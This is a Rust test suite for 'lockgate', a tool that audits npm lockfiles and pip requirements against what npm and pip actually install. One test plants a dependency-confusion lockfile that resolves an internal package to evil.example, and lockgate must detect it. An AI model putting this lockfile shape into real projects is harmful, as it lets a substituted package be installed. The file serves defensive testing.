//! Issue 9: lockgate reads exactly what npm and pip read. Each test first shows what the real
//! tool does with the input (npm 11's `npm ls --package-lock-only` / `npm ci --dry-run --offline`,
//! pip's own `parse_requirements`), then that `lockgate check` (or the `npm` shim) reads the same:
//! it refuses where the tool would install something lockgate did not audit, and accepts what the
//! tool accepts without risk (byte-order marks, UTF-16, links, npm's range semantics).

mod common;

use serde_json::Value;

use common::sandbox::{base_env, command_with_env};
use common::{repo_root, tools, Sandbox};

/// An integrity value for entries whose bytes `check` never fetches.
const SRI: &str = "sha512-m3HSJL1i83hdltRq0+o9czGb+8KJDKra4t/3JRlnPKcjI8PZm6XBHXx6zG4UuMXaDEZjR1wuXDre9G9zvN7AQw==";
const SHA256: &str = "1111111111111111111111111111111111111111111111111111111111111111";

const POLICY: &str =
    "[npm.internal]\nregistry = \"https://npm.corp.example/\"\nscopes = [\"@myorg\"]\n";

fn sandbox() -> Sandbox {
    let mut sb = Sandbox::new();
    sb.set_env("LOCKGATE_SYSTEM_CONFIG", "");
    sb.write("lockgate.toml", POLICY);
    sb
}

fn public_url(name: &str, version: &str) -> String {
    let base = name.rsplit('/').next().unwrap_or(name);
    format!("https://registry.npmjs.org/{name}/-/{base}-{version}.tgz")
}

/// A registry entry as npm writes it.
fn entry(name: &str, version: &str) -> String {
    format!(
        r#""node_modules/{name}": {{"version": "{version}", "resolved": "{}", "integrity": "{SRI}"}}"#,
        public_url(name, version)
    )
}

/// `npm ci --dry-run` with an unreachable registry and an empty cache: succeeds exactly when npm
/// accepts the lockfile and package.json as they are.
fn plain_npm_ci(sb: &Sandbox) -> common::sandbox::Run {
    sb.run(sb.cmd(&tools().npm).args([
        "ci",
        "--dry-run",
        "--ignore-scripts",
        "--offline",
        "--no-audit",
        "--no-fund",
        "--registry",
        "http://127.0.0.1:9/",
    ]))
}

fn check_json(sb: &Sandbox, code: i32) -> Value {
    let out = sb
        .run(
            sb.lockgate()
                .args(["check", "--offline", "--format", "json"]),
        )
        .code_is(code);
    serde_json::from_str(&out.stdout).unwrap_or_else(|e| panic!("check --format json: {e}\n{out}"))
}

fn finding<'a>(doc: &'a Value, kind: &str) -> Option<&'a Value> {
    doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["kind"] == kind)
}

/// pip's own requirements parser on a file: the requirements it yields, or its error.
fn pip_parse(sb: &Sandbox, file: &str) -> common::sandbox::Run {
    let script = "import sys\nfrom pip._internal.req.req_file import parse_requirements\nfrom pip._internal.network.session import PipSession\nfor r in parse_requirements(sys.argv[1], session=PipSession()):\n    print(r.requirement)";
    sb.run(sb.cmd(&tools().python).args(["-c", script, file]))
}

/// The attack from the issue: `packages` says the internal package comes from evil.example, the
/// v1 `dependencies` tree beside it says the internal registry. npm 11 installs from `packages`
/// whatever `lockfileVersion` says (1 or absent); lockgate used to read the tree.
#[test]
fn packages_are_read_whatever_lockfile_version_says() {
    for version in [r#""lockfileVersion": 1,"#, ""] {
        let sb = sandbox();
        sb.write(
            "package.json",
            r#"{"name": "app", "version": "1.0.0", "dependencies": {"@myorg/pay": "^1.0.0"}}"#,
        );
        sb.write(
            "package-lock.json",
            format!(
                r#"{{"name": "app", "version": "1.0.0", {version} "requires": true,
  "packages": {{
    "": {{"name": "app", "version": "1.0.0", "dependencies": {{"@myorg/pay": "^1.0.0"}}}},
    "node_modules/@myorg/pay": {{"version": "1.0.0", "resolved": "http://evil.example/pay-1.0.0.tgz"}}
  }},
  "dependencies": {{
    "@myorg/pay": {{"version": "1.0.0", "resolved": "https://npm.corp.example/@myorg/pay/-/pay-1.0.0.tgz", "integrity": "{SRI}"}}
  }}
}}"#
            ),
        );
        // npm reads the evil entry.
        let ls = sb
            .run(
                sb.cmd(&tools().npm)
                    .args(["ls", "--package-lock-only", "--json", "--long"]),
            )
            .ok();
        assert!(
            ls.stdout.contains("http://evil.example/pay-1.0.0.tgz"),
            "{ls}"
        );
        plain_npm_ci(&sb).ok();
        // lockgate reads the same entry, and refuses it as confusion, without an integrity.
        let doc = check_json(&sb, 22);
        let f = finding(&doc, "dependency-confusion").expect("a confusion finding");
        assert_eq!(f["package"], "@myorg/pay@1.0.0");
        assert!(
            f["message"]
                .as_str()
                .unwrap()
                .contains("http://evil.example"),
            "{f}"
        );
        sb.run(sb.shim("npm").arg("ci")).code_is(22);
        assert!(!sb.exists("node_modules"));
        assert_eq!(
            sb.counter(
                "registry_confusion_attempt_detected_total",
                &[("package", "@myorg/pay")]
            ),
            2.0,
            "check and the guarded npm ci both count it"
        );
    }
}

/// Shapes npm reads in a way lockgate cannot follow exactly are refused (21) with the reason.
#[test]
fn unknown_versions_and_a_packages_array_are_refused() {
    for (lock, why) in [
        (
            r#"{"lockfileVersion": "3", "packages": {"": {}}}"#,
            "lockfileVersion \"3\"",
        ),
        (
            r#"{"lockfileVersion": 4, "packages": {"": {}}}"#,
            "lockfileVersion 4",
        ),
        (
            r#"{"lockfileVersion": -1, "packages": {"": {}}}"#,
            "lockfileVersion -1",
        ),
        (
            r#"{"lockfileVersion": 3, "packages": []}"#,
            "`packages` is an array",
        ),
    ] {
        let sb = sandbox();
        sb.write(
            "package.json",
            r#"{"name": "app", "dependencies": {"left-pad": "1.3.0"}}"#,
        );
        sb.write("package-lock.json", lock);
        let doc = check_json(&sb, 21);
        let f = finding(&doc, "lockfile").expect("a lockfile finding");
        assert!(f["message"].as_str().unwrap().contains(why), "{lock}: {f}");
    }
    // npm reads `packages: []` as "nothing locked" and would resolve left-pad afresh.
    let sb = sandbox();
    sb.write(
        "package.json",
        r#"{"name": "app", "dependencies": {"left-pad": "1.3.0"}}"#,
    );
    sb.write(
        "package-lock.json",
        r#"{"lockfileVersion": 3, "packages": []}"#,
    );
    let ci = plain_npm_ci(&sb).failed();
    assert!(ci.output().contains("ENOTCACHED"), "{ci}");
}

/// A BOM in package-lock.json and package.json, a BOM'd requirements.txt and a UTF-16 one: npm
/// and pip read them, so lockgate does too.
#[test]
fn byte_order_marks_and_utf16_are_read_as_the_tools_read_them() {
    let sb = sandbox();
    sb.write(
        "package.json",
        "\u{feff}{\"name\": \"app\", \"version\": \"1.0.0\", \"dependencies\": {\"left-pad\": \"^1.3.0\"}}",
    );
    sb.write(
        "package-lock.json",
        format!(
            "\u{feff}{{\"name\": \"app\", \"lockfileVersion\": 3, \"packages\": {{\"\": {{\"name\": \"app\", \"version\": \"1.0.0\", \"dependencies\": {{\"left-pad\": \"^1.3.0\"}}}}, {}}}}}",
            entry("left-pad", "1.3.0")
        ),
    );
    plain_npm_ci(&sb).ok();
    let req = format!("requests==2.31.0 --hash=sha256:{SHA256}\n");
    sb.write("requirements.txt", format!("\u{feff}{req}"));
    let utf16: Vec<u8> = [0xff, 0xfe]
        .into_iter()
        .chain(
            format!("urllib3==2.0.7 --hash=sha256:{SHA256}\n")
                .encode_utf16()
                .flat_map(|u| u.to_le_bytes()),
        )
        .collect();
    sb.write("requirements-dev.txt", utf16);
    for f in ["requirements.txt", "requirements-dev.txt"] {
        let pip = pip_parse(&sb, f).ok();
        assert!(
            pip.stdout.contains("requests==2.31.0") || pip.stdout.contains("urllib3==2.0.7"),
            "{pip}"
        );
    }
    let doc = check_json(&sb, 0);
    assert_eq!(doc["lockfiles"].as_array().unwrap().len(), 3, "{doc}");
    assert_eq!(doc["errors"], 0, "{doc}");
}

/// `link: true` entries (a `file:` folder outside the root) are local paths: audited, not fetched,
/// and no longer "entry without version".
#[test]
fn link_entries_are_local_paths() {
    let sb = sandbox();
    sb.write(
        "../ext/package.json",
        r#"{"name": "ext", "version": "1.0.0"}"#,
    );
    sb.write(
        "package.json",
        r#"{"name": "app", "version": "1.0.0", "dependencies": {"ext": "file:../ext", "left-pad": "^1.3.0"}}"#,
    );
    sb.write(
        "package-lock.json",
        format!(
            r#"{{"name": "app", "lockfileVersion": 3, "requires": true, "packages": {{
  "": {{"name": "app", "version": "1.0.0", "dependencies": {{"ext": "file:../ext", "left-pad": "^1.3.0"}}}},
  "../ext": {{"version": "1.0.0"}},
  "node_modules/ext": {{"resolved": "../ext", "link": true}},
  {}
}}}}"#,
            entry("left-pad", "1.3.0")
        ),
    );
    plain_npm_ci(&sb).ok();
    let doc = check_json(&sb, 0);
    assert_eq!(doc["errors"], 0, "{doc}");
}

/// A plain tarball URL (not a registry): refused with a hint that names
/// `unsafe-allow-non-registry`; allowed with it, and its integrity is still required.
#[test]
fn plain_tarballs_follow_unsafe_allow_non_registry() {
    let sb = sandbox();
    let url = "https://github.com/facebook/react/tarball/v18.0.0";
    sb.write(
        "package.json",
        format!(r#"{{"name": "app", "dependencies": {{"react": "{url}"}}}}"#),
    );
    let lock = |integrity: &str| {
        format!(
            r#"{{"lockfileVersion": 3, "packages": {{"": {{"name": "app", "dependencies": {{"react": "{url}"}}}},
  "node_modules/react": {{"version": "18.0.0", "resolved": "{url}"{integrity}}}}}}}"#
        )
    };
    sb.write(
        "package-lock.json",
        lock(&format!(r#", "integrity": "{SRI}""#)),
    );
    let doc = check_json(&sb, 26);
    let f = finding(&doc, "insecure-source").unwrap();
    let hint = f["hint"].as_str().unwrap();
    assert!(hint.contains("unsafe-allow-non-registry"), "{hint}");
    assert!(!hint.contains("set [npm] registry"), "{hint}");

    sb.write(
        "lockgate.toml",
        format!("{POLICY}[npm]\nunsafe-allow-non-registry = [\"react\"]\n"),
    );
    let doc = check_json(&sb, 0);
    assert_eq!(doc["errors"], 0, "{doc}");
    sb.write("package-lock.json", lock(""));
    let doc = check_json(&sb, 21);
    assert!(finding(&doc, "missing-hash").is_some(), "{doc}");
}

/// The sync check asks what `npm ci` asks: does the locked version satisfy the range?
#[test]
fn sync_check_follows_npm_ci() {
    let sb = sandbox();
    let lock = format!(
        r#"{{"name": "app", "lockfileVersion": 2, "requires": true, "packages": {{
  "": {{"name": "app", "dependencies": {{"left-pad": "^1.0.0", "once": "^1.4.0"}}, "optionalDependencies": {{"wrappy": "^1.0.0"}}}},
  {}, {}, "node_modules/wrappy": {{"version": "1.0.2", "optional": true, "resolved": "{}", "integrity": "{SRI}"}}
}}}}"#,
        entry("left-pad", "1.3.0"),
        entry("once", "1.4.0"),
        public_url("wrappy", "1.0.2")
    );
    sb.write("package-lock.json", &lock);
    // widened range, a removed dependency, an optional dependency listed in both lists
    sb.write(
        "package.json",
        r#"{"name": "app", "dependencies": {"left-pad": ">=1.0.0 <3", "wrappy": "^1.0.0"}, "optionalDependencies": {"wrappy": "^1.0.0"}}"#,
    );
    plain_npm_ci(&sb).ok();
    let doc = check_json(&sb, 0);
    assert_eq!(doc["errors"], 0, "{doc}");
    // a range the locked version does not satisfy: npm ci refuses, so does lockgate
    sb.write(
        "package.json",
        r#"{"name": "app", "dependencies": {"left-pad": "^2.0.0"}}"#,
    );
    plain_npm_ci(&sb).failed();
    let doc = check_json(&sb, 21);
    let f = finding(&doc, "lockfile").unwrap();
    assert!(
        f["message"]
            .as_str()
            .unwrap()
            .contains("wants left-pad@^2.0.0, the lockfile has 1.3.0"),
        "{f}"
    );
}

/// No package.json beside the lockfile: npm ci refuses (its tree comes from package.json, and the
/// lockfile's root version no longer matches); lockgate says why in one finding, audits the
/// entries all the same, and the guarded `npm ci` refuses with 21 (it used to exit 20 with a raw
/// OS message).
#[test]
fn missing_package_json_is_a_clear_refusal() {
    let sb = sandbox();
    sb.write(
        "package-lock.json",
        format!(
            r#"{{"name": "app", "version": "1.0.0", "lockfileVersion": 3, "packages": {{"": {{"name": "app", "version": "1.0.0", "dependencies": {{"@myorg/pay": "^1.0.0"}}}},
  "node_modules/@myorg/pay": {{"version": "1.0.0", "resolved": "{}", "integrity": "{SRI}"}}}}}}"#,
            public_url("@myorg/pay", "1.0.0")
        ),
    );
    let ci = plain_npm_ci(&sb).failed();
    assert!(ci.output().contains("EUSAGE"), "{ci}");
    let doc = check_json(&sb, 22);
    let f = finding(&doc, "lockfile").expect("a finding for the missing package.json");
    assert!(
        f["message"]
            .as_str()
            .unwrap()
            .contains("package.json is missing"),
        "{f}"
    );
    assert!(finding(&doc, "dependency-confusion").is_some(), "{doc}");
    let out = sb.run(sb.shim("npm").arg("ci")).code_is(21);
    assert!(out.stderr.contains("package.json is missing"), "{out}");
}

/// An 8000-deep `-r` chain: pip's own parser dies of recursion; lockgate stops with a clear
/// error (it used to overflow its stack and abort with 134).
#[test]
fn deep_include_chains_are_an_error() {
    let sb = sandbox();
    for i in 0..8000 {
        sb.write(format!("inc/r{i}.txt"), format!("-r r{}.txt\n", i + 1));
    }
    sb.write(
        "inc/r8000.txt",
        format!("requests==2.31.0 --hash=sha256:{SHA256}\n"),
    );
    sb.write("requirements.txt", "-r inc/r0.txt\n");
    let pip = pip_parse(&sb, "requirements.txt").failed();
    assert!(pip.output().contains("RecursionError"), "{pip}");
    let doc = check_json(&sb, 21);
    let f = finding(&doc, "lockfile").unwrap();
    assert!(f["message"].as_str().unwrap().contains("files deep"), "{f}");
}

/// One unreadable file is one finding; the other files are still audited.
#[test]
fn one_bad_file_does_not_stop_the_audit() {
    let sb = sandbox();
    sb.write("requirements.txt", "requests==2.31.0 --hash=sha256:\n");
    sb.write(
        "package.json",
        r#"{"name": "app", "dependencies": {"@myorg/pay": "^1.0.0"}}"#,
    );
    sb.write(
        "package-lock.json",
        format!(
            r#"{{"lockfileVersion": 3, "packages": {{"": {{"dependencies": {{"@myorg/pay": "^1.0.0"}}}},
  "node_modules/@myorg/pay": {{"version": "1.0.0", "resolved": "{}", "integrity": "{SRI}"}},
  "node_modules/broken": {{}}}}}}"#,
            public_url("@myorg/pay", "1.0.0")
        ),
    );
    let doc = check_json(&sb, 22);
    assert!(finding(&doc, "dependency-confusion").is_some(), "{doc}");
    let bad = doc["findings"].as_array().unwrap().iter().find(|f| {
        f["kind"] == "lockfile" && f["file"].as_str().unwrap().ends_with("requirements.txt")
    });
    assert!(bad.is_some(), "{doc}");
    let broken = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["package"] == "broken@");
    assert_eq!(broken.unwrap()["kind"], "missing-hash", "{doc}");
}

/// A fatal error (here: nothing to audit, and a broken policy) still prints one valid JSON
/// document and one valid SARIF log, so the README's upload recipe keeps working.
#[test]
fn fatal_errors_still_print_one_document() {
    let sb = sandbox();
    let doc = check_json(&sb, 21);
    assert_eq!(doc["exit_code"], 21);
    assert!(
        doc["error"]["message"]
            .as_str()
            .unwrap()
            .contains("no lockfile found"),
        "{doc}"
    );
    let out = sb
        .run(
            sb.lockgate()
                .args(["check", "--offline", "--format", "sarif"]),
        )
        .code_is(21);
    assert!(out.stderr.contains("no lockfile found"), "{out}");
    let path = sb.write("../out.sarif", &out.stdout);
    let schema = repo_root().join("tests/fixtures/sarif-2.1.0-rtm.5.json");
    let script = "import json, sys, jsonschema\njsonschema.validate(json.load(open(sys.argv[1])), json.load(open(sys.argv[2])))\nprint('valid')";
    let mut validate = command_with_env(&tools().venv_python, &base_env());
    validate.args(["-c", script]).arg(&path).arg(&schema);
    let v = sb.run(&mut validate);
    assert!(v.output().contains("valid") && v.code() == Some(0), "{v}");
    let log: Value = serde_json::from_str(&out.stdout).unwrap();
    let inv = &log["runs"][0]["invocations"][0];
    assert_eq!(inv["executionSuccessful"], false);
    assert_eq!(inv["exitCode"], 21);

    sb.write("lockgate.toml", "[npm]\nnot-a-key = 1\n");
    let doc = check_json(&sb, 20);
    assert!(
        doc["error"]["message"]
            .as_str()
            .unwrap()
            .contains("not-a-key"),
        "{doc}"
    );
}

/// `uv export` lists the project itself as `-e .`; the hint names `--no-emit-project`.
#[test]
fn uv_export_hint_names_no_emit_project() {
    let sb = sandbox();
    sb.write(
        "requirements.txt",
        format!("# This file was autogenerated by uv via the following command:\n#    uv export --format requirements-txt\n-e .\nrequests==2.31.0 \\\n    --hash=sha256:{SHA256}\n"),
    );
    let doc = check_json(&sb, 21);
    let f = finding(&doc, "non-registry-source").unwrap();
    assert!(
        f["hint"]
            .as_str()
            .unwrap()
            .contains("uv export --no-emit-project"),
        "{f}"
    );
}
